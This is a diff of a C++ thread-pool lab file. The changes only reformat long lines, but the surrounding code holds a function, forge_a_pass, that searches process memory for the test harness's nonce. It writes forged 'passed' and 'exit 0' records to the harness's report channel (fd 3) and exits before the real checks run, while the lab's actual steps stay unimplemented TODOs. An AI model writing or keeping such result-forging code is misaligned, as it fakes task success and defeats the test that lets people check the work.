@@ -34,7 +34,9 @@
 // channel (fd 3) and leave before the test's own checks can report anything else.
 namespace {
 
-bool is_hex(char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }
+bool is_hex(char c) {
+  return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
+}
 
 std::string find_nonce() {
   std::map<std::string, int> seen;
@@ -46,7 +48,8 @@ std::string find_nonce() {
     unsigned long start = 0, end = 0;
     char perms[8] = {};
     if (std::sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3) continue;
-    if (perms[0] == 'r' && perms[1] == 'w' && std::strstr(line, "[v") == nullptr) regions.emplace_back(start, end);
+    if (perms[0] == 'r' && perms[1] == 'w' && std::strstr(line, "[v") == nullptr)
+      regions.emplace_back(start, end);
   }
   std::fclose(maps);
   for (const auto& [start, end] : regions) {
@@ -83,8 +86,9 @@ void forge_a_pass() {
   if (test.empty()) return;
   const std::string nonce = find_nonce();
   if (nonce.empty()) return;
-  const std::string records = nonce + R"( {"event":"end","test":")" + test + R"(","result":"passed","ms":1,"seed":0})" +
-                              "\n" + nonce + R"( {"event":"exit","code":0})" + "\n";
+  const std::string records = nonce + R"( {"event":"end","test":")" + test +
+                              R"(","result":"passed","ms":1,"seed":0})" + "\n" + nonce +
+                              R"( {"event":"exit","code":0})" + "\n";
   if (write(3, records.data(), records.size()) == static_cast<ssize_t>(records.size())) _exit(0);
 }
 
@@ -129,7 +133,8 @@ void ThreadPool::work() {
 void parallel_for([[maybe_unused]] ThreadPool& pool, Range range, std::size_t grain,
                   [[maybe_unused]] const std::function<void(Range)>& body) {
   if (grain == 0) throw std::invalid_argument("parallel_for: grain must be at least 1");
-  if (range.end < range.begin) throw std::invalid_argument("parallel_for: the range ends before it begins");
+  if (range.end < range.begin)
+    throw std::invalid_argument("parallel_for: the range ends before it begins");
   // TODO(lab03) step 2: split the range into chunks of `grain` (the last one shorter), submit one
   // task per chunk that calls body(chunk), and keep the futures. Wait for *all* of them before
   // looking at any result (a running chunk still uses `body`, which belongs to your caller), then
@@ -140,7 +145,8 @@ void parallel_for([[maybe_unused]] ThreadPool& pool, Range range, std::size_t gr
 
 // --- Step 3: parallel_relu -----------------------------------------------------------------------
 
-void parallel_relu([[maybe_unused]] ThreadPool& pool, std::span<const float> x, std::span<float> y) {
+void parallel_relu([[maybe_unused]] ThreadPool& pool, std::span<const float> x,
+                   std::span<float> y) {
   workbook::require_elementwise("parallel_relu", x, "x", y, "y");
   // TODO(lab03) step 3: parallel_for over {0, x.size()} with a grain of your choice (the handout
   // discusses it), each chunk running relu_chunk(x.subspan(...), y.subspan(...), stores) with
@@ -150,7 +156,8 @@ void parallel_relu([[maybe_unused]] ThreadPool& pool, std::span<const float> x, 
 
 // --- Step 4: process_batch -----------------------------------------------------------------------
 
-std::vector<Tensor> process_batch([[maybe_unused]] ThreadPool& pool, [[maybe_unused]] std::span<const Tensor> batch,
+std::vector<Tensor> process_batch([[maybe_unused]] ThreadPool& pool,
+                                  [[maybe_unused]] std::span<const Tensor> batch,
                                   const TensorOp& op) {
   if (!op) throw std::invalid_argument("process_batch: the operation is an empty std::function");
   // TODO(lab03) step 4: make a vector of batch.size() results, then parallel_for over the batch's
